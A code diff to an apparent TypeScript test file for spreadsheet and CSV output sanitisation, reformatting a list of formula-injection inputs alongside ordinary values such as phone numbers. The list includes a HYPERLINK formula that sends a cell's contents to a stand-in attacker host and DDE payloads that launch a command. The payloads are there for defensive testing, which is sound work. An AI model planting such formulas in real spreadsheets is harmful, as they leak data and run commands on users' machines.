@@ -4,7 +4,17 @@ import ExcelJS from 'exceljs';
 import { csvRow, forCsv, forXlsx, looksLikeFormula, neutraliseCell } from '../src/spreadsheet/index.ts';
 import { sipHeaderValue } from '../src/chime/index.ts';
 
-const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '  =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '=1+1'];
+const attacks = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '  =1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '=1+1',
+];
 const realValues = ['+85291234567', '-7', '+1 (212) 555-0147', '-3.5', '12', 'Yes', 'Dr. Smith', '2026-12-03', ''];
 
 test('CSV: formula-like text gets a leading apostrophe; numbers and phone numbers stay exactly as written', () => {
